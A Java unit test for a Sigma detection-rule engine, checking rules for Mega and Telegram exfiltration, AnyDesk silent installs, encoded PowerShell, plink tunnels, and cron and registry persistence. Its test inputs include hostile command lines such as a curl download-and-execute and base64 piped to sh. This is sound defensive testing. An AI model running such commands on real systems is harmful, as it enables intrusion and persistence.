package io.waybillguard.agent.hunt.sigma;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Rules as the public collection has them; origin and licence are beside the files. */
final class PublicRulesTest {
  static String text(String name) throws IOException {
    try (InputStream in = PublicRulesTest.class.getResourceAsStream("rules/" + name + ".yml")) {
      return new String(Objects.requireNonNull(in, name).readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private static Answer ask(String rule, Map<String, String> fields) throws Exception {
    return SigmaRule.parse(text(rule)).on(Occurrence.of(fields));
  }

  @Test
  void aConnectionToAnUploadPlaceIsFoundByTheEndOfItsName() throws Exception {
    String rule = "net_connection_win_domain_mega_nz";
    assertEquals(
        Answer.YES,
        ask(rule, Map.of("Initiated", "true", "DestinationHostname", "eu.API.mega.co.nz")));
    assertEquals(
        Answer.NO,
        ask(rule, Map.of("Initiated", "false", "DestinationHostname", "api.mega.co.nz")));
    assertEquals(
        Answer.NO,
        ask(rule, Map.of("Initiated", "true", "DestinationHostname", "api.mega.co.nz.example")));
    assertEquals(Answer.UNKNOWN, ask(rule, Map.of("Initiated", "true")), "no name was recorded");
  }

  @Test
  void browsersAreLeftOutOfTheTelegramRuleByAnyOfItsFilters() throws Exception {
    String rule = "net_connection_win_domain_telegram_api_non_browser_access";
    String host = "api.telegram.org";
    assertEquals(
        Answer.YES, ask(rule, Map.of("DestinationHostname", host, "Image", "C:\\Temp\\scan.exe")));
    for (String browser :
        Set.of(
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Program Files\\Microsoft\\EdgeCore\\131\\msedge.exe",
            "D:\\portable\\OPERA.exe")) {
      assertEquals(
          Answer.NO, ask(rule, Map.of("DestinationHostname", host, "Image", browser)), browser);
    }
    assertEquals(
        Answer.UNKNOWN,
        ask(rule, Map.of("DestinationHostname", host)),
        "it may have been a browser, so nobody is accused");
  }

  @Test
  void allOfAListIsAskedForInWhateverOrder() throws Exception {
    String rule = "proc_creation_win_remote_access_tools_anydesk_silent_install";
    assertEquals(
        Answer.YES,
        ask(rule, Map.of("CommandLine", "AnyDesk.exe --silent --install C:\\x --start-with-win")));
    assertEquals(Answer.NO, ask(rule, Map.of("CommandLine", "AnyDesk.exe --silent --install")));
  }

  @Test
  void aCommandHiddenInBase64IsFoundWhereverItStands() throws Exception {
    String rule = "proc_creation_win_powershell_base64_iex";
    for (String before : Set.of("", "a", "ab", "abc")) {
      String code =
          Base64.getEncoder()
              .encodeToString((before + "IEX (New-Object").getBytes(StandardCharsets.UTF_8));
      assertEquals(Answer.YES, ask(rule, Map.of("CommandLine", "powershell -enc " + code)), before);
    }
    assertEquals(Answer.NO, ask(rule, Map.of("CommandLine", "powershell -enc aGVsbG8=")));
  }

  /** Escapes as a real rule has them: wildcards that are none, backslashes that are. */
  @Test
  void theFilterOfTheAttribRuleIsReadWithItsEscapes() throws Exception {
    String rule = "proc_creation_win_attrib_hiding_files";
    assertEquals(
        Answer.YES,
        ask(
            rule,
            Map.of(
                "Image", "C:\\Windows\\System32\\attrib.exe",
                "CommandLine", "attrib +h C:\\x.exe",
                "ParentImage", "C:\\Windows\\explorer.exe",
                "ParentCommandLine", "explorer")));
    assertEquals(
        Answer.NO,
        ask(
            rule,
            Map.of(
                "Image", "C:\\Windows\\System32\\attrib.exe",
                "CommandLine", "attrib +h C:\\desktop.ini ",
                "ParentImage", "C:\\Windows\\explorer.exe",
                "ParentCommandLine", "explorer")));
    assertEquals(Set.of("OriginalFileName"), SigmaRule.parse(text(rule)).untold());
  }

  @Test
  void whatOnlyAFieldThatNoDeskTellsCouldFindIsLeftOpen() throws Exception {
    String rule = "proc_creation_win_renamed_plink";
    assertEquals(
        Answer.YES,
        ask(rule, Map.of("Image", "C:\\t\\a.exe", "CommandLine", "a -l forward -P 22 -R 1")));
    assertEquals(Answer.UNKNOWN, ask(rule, Map.of("Image", "C:\\t\\a.exe", "CommandLine", "a -V")));
    assertEquals(
        Answer.NO,
        ask(rule, Map.of("Image", "C:\\t\\plink.exe", "CommandLine", "a -l forward -P 22 -R 1")));
  }

  @Test
  void aRuleThatHangsOnAFieldThatNoDeskTellsIsRefusedAndNamesIt() throws Exception {
    String rule = text("net_connection_win_rdp_reverse_tunnel");
    SigmaException refused = assertThrows(SigmaException.class, () -> SigmaRule.parse(rule));
    assertEquals(SigmaException.Reason.FIELDS, refused.reason());
    assertEquals("SourcePort", refused.details().get(0));
  }

  @Test
  void filesAndRegistryAndLinuxCommandsAreFoundByTheirRules() throws Exception {
    assertEquals(
        Answer.YES,
        ask("file_event_lnx_persistence_cron_files", Map.of("TargetFilename", "/etc/cron.d/sync")));
    assertEquals(
        Answer.NO,
        ask(
            "file_event_lnx_persistence_cron_files",
            Map.of("TargetFilename", "/etc/cron.daily/dpkg")));
    assertEquals(
        Answer.YES,
        ask(
            "file_event_win_anydesk_artefact",
            Map.of("TargetFilename", "C:\\Users\\a\\AppData\\Roaming\\AnyDesk\\user.conf")));
    assertEquals(
        Answer.YES,
        ask(
            "registry_set_susp_reg_persist_explorer_run",
            Map.of(
                "TargetObject",
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run",
                "Details",
                "C:\\ProgramData\\s.exe")));
    assertEquals(
        Answer.YES,
        ask(
            "proc_creation_lnx_base64_shebang_cli",
            Map.of("CommandLine", "echo IyEvYmluL2Jhc2gK | base64 -d | sh")));
    assertEquals(
        Answer.YES,
        ask(
            "proc_creation_lnx_curl_wget_exec_tmp",
            Map.of("CommandLine", "sh -c /usr/bin/curl -o /tmp/x http://h && /tmp/x")));
  }
}
